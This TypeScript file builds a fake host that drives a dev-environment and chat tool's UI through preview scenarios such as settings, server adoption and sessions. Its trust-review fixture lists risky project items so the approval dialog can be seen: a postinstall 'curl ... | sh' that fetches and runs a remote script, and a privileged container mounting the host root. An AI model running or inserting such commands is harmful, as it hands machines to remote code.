/** A made-up host for looking at the window in every state. `?scenario=` chooses; services.ts, sizes.ts, troubles.ts, extremes.ts and chat.ts have the names. */
import type { ChatState, SessionEvent } from "#shared/schema/chat.ts";
import type { EnvironmentStatus } from "#shared/schema/environment.ts";
import type { HostInfo } from "#shared/schema/host.ts";
import type { ProjectId, SessionId, WorkspaceId } from "#shared/schema/id.ts";
import { stoppedServer, type ServerStatus } from "#shared/schema/server.ts";
import { settingsSchema, type Settings } from "#shared/schema/settings.ts";
import type { Project } from "#shared/schema/workspace.ts";
import { chatOf, conversation, mainSession, session, turn } from "./chat.ts";
import { configTextOf, draftOf } from "./drafts.ts";
import { createFakeConnection, FakeFailure } from "./fake-connection.ts";
import { FakeLog } from "./logs.ts";
import { auditOf, differenceOf, planOf, readingsOf, runsOf, suggestions } from "./monitoring.ts";
import { historyOf, runningServer, serverOf, sharedServerOf } from "./servers.ts";
import { environmentOf } from "./services.ts";
import { workspace } from "./shop.ts";

/** One state that is pushed to everyone who watches it. */
function watched<State>(initial: State) {
  let state = initial;
  const readers = new Set<(item: State) => void>();
  return {
    get: () => state,
    set: (next: State) => {
      state = next;
      for (const reader of readers) reader(state);
    },
    watch: (_input: unknown, push: (item: State) => void) => {
      push(state);
      readers.add(push);
      return () => readers.delete(push);
    },
  };
}

/** Enough changed that every kind of field shows what it looks like then. */
const changedSettings = {
  server: {
    memoryLimitMb: 2_048,
    environment: { ANTHROPIC_BASE_URL: "https://proxy.example.com", HTTPS_PROXY: "http://127.0.0.1:3128" },
    stopGraceSeconds: 10,
    eventLog: true,
  },
};

/** As often as it is wanted, each with a number. */
function scaled(environment: EnvironmentStatus, service: string, count: number): EnvironmentStatus {
  const members = environment.services.filter(({ name, replica }) => name === service || replica?.of === service);
  const [first] = members;
  if (first === undefined) return environment;
  const { replica: _, ...alone } = first;
  const made = Array.from({ length: count }, (_each, index) =>
    count === 1
      ? { ...alone, name: service }
      : { ...alone, name: `${service}-${index}`, replica: { of: service, url: first.replica?.url ?? first.url } },
  );
  const services = environment.services.flatMap((each) =>
    each === first ? made : members.includes(each) ? [] : [each],
  );
  return { ...environment, services };
}

const project = (id: string, name: string, change: Partial<Project> = {}): Project => ({
  id: `prj_${id.padStart(16, "0")}` as ProjectId,
  workspace,
  name,
  directory: `/home/kim/projects/${name}`,
  openedAt: new Date().toISOString(),
  trusted: true,
  ...change,
});

export function createFakeHost(scenario: string) {
  const host = watched<HostInfo>({
    version: "0.1.0",
    kind: scenario === "desktop" ? "desktop" : "headless",
    pid: 3_991,
    startedAt: new Date().toISOString(),
    home: "/home/kim/.deckhand",
    platform: "linux",
    demo: scenario === "demo" ? "Demo: a scripted model answers, no AI is called" : null,
    folderDialog: false,
    notices:
      scenario === "notice"
        ? [
            {
              id: "n1",
              severity: "warning",
              message: "The state file was damaged and set aside as deckhand.db.bad-1.",
              next: "Open your projects again.",
            },
          ]
        : [],
  });
  const settings = watched<Settings>(settingsSchema.parse(scenario === "settings" ? changedSettings : {}));
  const projects = watched<Project[]>(
    scenario === "welcome"
      ? []
      : [
          project("a1", "harbour", { trusted: scenario !== "untrusted" }),
          project("b2", "billing-service", { workspace: "wsp_00000000000000b2" as WorkspaceId }),
          project("c3", "a-project-with-quite-a-long-name", { workspace: "wsp_00000000000000c3" as WorkspaceId }),
        ],
  );
  const environment = watched<EnvironmentStatus>(environmentOf(scenario));
  const others: Record<string, ReturnType<typeof watched<EnvironmentStatus>>> = {
    wsp_00000000000000b2: watched(environmentOf("failed")),
    wsp_00000000000000c3: watched(environmentOf("stopped")),
  };
  const chat = watched<ChatState>(chatOf(scenario));
  const log = new FakeLog();
  if (scenario !== "empty") log.write(scenario === "burst" ? 6_000 : 180);
  if (scenario === "server-log" || scenario === "server-gave-up") log.writeServer(1_000);
  if (scenario === "ready") setInterval(() => log.write(2), 900);
  const followers = new Map<SessionId, Set<(...events: SessionEvent[]) => void>>();
  let number = 100;

  const setStatus = (id: SessionId, type: "busy" | "idle"): void => {
    const state = chat.get();
    const sessions = state.sessions.map((each) => (each.id === id ? { ...each, status: { type } } : each));
    chat.set({ ...state, sessions });
    const changed = sessions.find((each) => each.id === id);
    if (changed) for (const push of followers.get(id) ?? []) push({ kind: "session", session: changed });
  };
  const play = (id: SessionId, text: string): void => {
    const events = turn(id, text, (number += 2));
    setStatus(id, "busy");
    const timer = setInterval(() => {
      const busy = chat.get().sessions.find((each) => each.id === id)?.status.type === "busy";
      const { value, done } = events.next();
      if (done || !busy) {
        clearInterval(timer);
        return setStatus(id, "idle");
      }
      for (const push of followers.get(id) ?? []) push(value);
      return undefined;
    }, 30);
  };
  const to = (name: string) => environment.set(environmentOf(name));
  const serverBecomes = (server: ServerStatus): ServerStatus => {
    environment.set({ ...environment.get(), server });
    return server;
  };

  const { connection, become } = createFakeConnection(
    {
      "host.watch": host.watch,
      "settings.watch": settings.watch,
      "project.watch": projects.watch,
      "environment.watch": (input, push) => {
        if (scenario === "error" && input.workspace === workspace)
          throw new FakeFailure(
            "folder_missing",
            "There is no folder at /home/kim/projects/harbour any more.",
            "Put it back, or remove the project.",
          );
        return (others[input.workspace] ?? environment).watch(input, push);
      },
      "chat.watch": chat.watch,
      "settings.change": (change) => {
        const { server, ...rest } = change;
        settings.set(
          settingsSchema.parse({ ...settings.get(), ...rest, server: { ...settings.get().server, ...server } }),
        );
        return settings.get();
      },
      "project.open": ({ directory }) => {
        throw new FakeFailure(
          "folder_missing",
          `There is nothing at ${directory}.`,
          "Check the path, or choose another folder.",
        );
      },
      "project.remove": ({ project: id }) => (projects.set(projects.get().filter((each) => each.id !== id)), null),
      "host.openLink": () => null,
      "host.dismissNotice": () => (host.set({ ...host.get(), notices: [] }), null),
      "environment.start": ({ services }) => {
        if (!projects.get()[0]?.trusted)
          throw new FakeFailure("not_trusted", "The folder would run commands and nobody has approved them.");
        if (!services) {
          to("starting");
          setTimeout(() => to("ready"), 3_000);
        }
        return { runId: "run_1" };
      },
      "environment.stop": async ({ services }) => {
        if (services) return null;
        environment.set({ ...environment.get(), phase: "stopping" });
        await new Promise((resolve) => setTimeout(resolve, 900));
        to("stopped");
        return null;
      },
      "environment.restart": () => ({ runId: "run_2" }),
      "environment.plan": ({ profile }) => planOf(environment.get(), profile),
      "environment.compare": ({ profile }) => differenceOf(environment.get(), profile ?? environment.get().profile),
      "environment.apply": ({ profile }) => {
        const { filesChanged: _answered, ...state } = environment.get();
        environment.set({ ...state, profile: profile ?? state.profile });
        return { runId: "run_3" };
      },
      "environment.keep": () => {
        const { filesChanged: _answered, ...state } = environment.get();
        environment.set(state);
        return null;
      },
      "environment.runs": ({ service }) => {
        const found = environment.get().services.find(({ name }) => name === service);
        return { runs: found ? runsOf(found) : [] };
      },
      "environment.otherPort": ({ port }) => ({ port: port + 1 }),
      "environment.movePort": () => ({ runId: "run_4" }),
      "environment.scale": ({ service, count }) => {
        environment.set(scaled(environment.get(), service, count));
        return { runId: "run_5" };
      },
      "config.draft": ({ service }) => draftOf(environment.get(), service),
      "config.preview": ({ edits = [] }) => configTextOf(environment.get(), edits),
      "config.save": () => ({ file: "deckhand.yaml", undo: true }),
      "config.undo": () => ({ file: "deckhand.yaml", undo: false }),
      "environment.history": (_input, push) => push(...environment.get().services.map(readingsOf)),
      "alert.opened": () => undefined,
      "environment.suggestions": () => ({ suggestions: scenario === "suggestions" ? suggestions : [] }),
      "audit.follow": (input, push) => push(...auditOf((others[input.workspace] ?? environment).get())),
      "server.start": () => serverBecomes(runningServer),
      "server.stop": () => serverBecomes(stoppedServer),
      "server.restart": () => serverBecomes({ ...runningServer, generation: runningServer.generation + 1 }),
      "server.keep": () => serverBecomes({ ...(environment.get().server ?? runningServer), plan: null }),
      "server.shared": () => sharedServerOf(scenario),
      "server.adopt": ({ url, password }) => {
        const shared = sharedServerOf(scenario);
        if (password === null && scenario === "server-shared-gone")
          throw new FakeFailure(
            "opencode_unreachable",
            `GET /global/health without the password: ${url} does not answer (ECONNREFUSED).`,
            "Start that server or check its address, then adopt it again.",
          );
        const known = password === null ? shared.kind === "found" && shared.url === url : password === "open sesame";
        if (!known)
          throw new FakeFailure(
            "opencode_auth",
            `The server at ${url} refused the password.`,
            "Check the password; it is in OPENCODE_SERVER_PASSWORD of whoever started it.",
          );
        const adopted = { ...(serverOf("server-adopted") ?? runningServer), url, port: Number(new URL(url).port) };
        return serverBecomes(shared.kind === "found" ? { ...adopted, version: shared.version } : adopted);
      },
      "server.history": (_input, push) => {
        const server = environment.get().server ?? stoppedServer;
        push({ reset: true, samples: server.memoryBytes === null ? [] : historyOf(server) });
      },
      "session.continue": ({ session: id }) => (play(id as SessionId, "Go on where you were cut off."), null),
      "trust.review": () => ({
        directory: "/home/kim/projects/harbour",
        state: "never",
        contentHash: "abc",
        items: [
          {
            kind: "command",
            name: "db:migrate",
            detail: "node database/migrate.mjs",
            source: "package.json#scripts.db:migrate",
            warnings: [],
          },
          {
            kind: "command",
            name: "dev:api",
            detail: "node --watch api.mjs",
            source: "package.json#scripts.dev:api",
            warnings: [],
          },
          {
            kind: "command",
            name: "postinstall",
            detail: "curl -fsSL https://example.com/setup.sh | sh",
            source: "package.json#scripts.postinstall",
            warnings: ["downloads and runs a program"],
          },
          {
            kind: "compose",
            name: "db",
            detail: "image postgres:17-alpine, volumes ./data:/var/lib/postgresql/data, ports 54032:5432",
            source: "compose.yaml",
            warnings: [],
          },
          {
            kind: "compose",
            name: "tools",
            detail: "image alpine:3, privileged, volumes /:/host",
            source: "compose.yaml",
            warnings: ["privileged", "mounts /"],
          },
          {
            kind: "opencode",
            name: "mcp.files",
            detail: "npx -y some-mcp-server /",
            source: "opencode.json",
            warnings: ["starts a program with the server"],
          },
        ],
      }),
      "trust.grant": () => (
        projects.set(projects.get().map((each) => Object.assign({}, each, { trusted: true }))),
        null
      ),
      "trust.revoke": () => null,
      "log.read": (input) => ({
        lines: log.read(input),
        firstSeq: log.lastSeq > 0 ? 1 : null,
        lastSeq: log.lastSeq || null,
      }),
      "log.follow": (input, push) => log.follow(input, push),
      "chat.models": () => ({
        models: [
          { id: "anthropic/claude-sonnet", name: "Claude Sonnet", provider: "Anthropic" },
          { id: "anthropic/claude-opus", name: "Claude Opus", provider: "Anthropic" },
          { id: "openai/gpt", name: "GPT", provider: "OpenAI" },
        ],
        default: "anthropic/claude-sonnet",
      }),
      "session.create": () => {
        const made = session(`ses_n${(number += 1)}`, "", { cost: 0, tokens: { input: 0, output: 0, reasoning: 0 } });
        chat.set({ ...chat.get(), sessions: [made, ...chat.get().sessions] });
        return made;
      },
      "session.prompt": ({ session: id, text }) => (play(id as SessionId, text), null),
      "session.abort": ({ session: id }) => (setStatus(id as SessionId, "idle"), null),
      "session.remove": ({ session: id }) => (
        chat.set({ ...chat.get(), sessions: chat.get().sessions.filter((each) => each.id !== id) }),
        null
      ),
      "session.events": ({ session: id }, push) => {
        const known = chat.get().sessions.find((each) => each.id === id);
        if (known)
          push({
            kind: "snapshot",
            session: known,
            messages: id === mainSession ? conversation(scenario) : [],
            truncated: false,
          });
        if (scenario === "turn-error")
          push({
            kind: "error",
            name: "APIError",
            message: "The provider refused the key (401). Sign in again with “opencode auth login”.",
          });
        const own = followers.get(id as SessionId) ?? new Set();
        followers.set(id as SessionId, own.add(push));
        if (scenario === "streaming" && id === mainSession) play(mainSession, "Now explain the change to a colleague.");
        return () => own.delete(push);
      },
      "permission.reply": ({ permission }) => (
        chat.set({ ...chat.get(), permissions: chat.get().permissions.filter((each) => each.id !== permission) }),
        null
      ),
      "question.reply": () => (chat.set({ ...chat.get(), questions: [] }), null),
      "question.reject": () => (chat.set({ ...chat.get(), questions: [] }), null),
    },
    25,
  );
  return { connection, become, log, to };
}
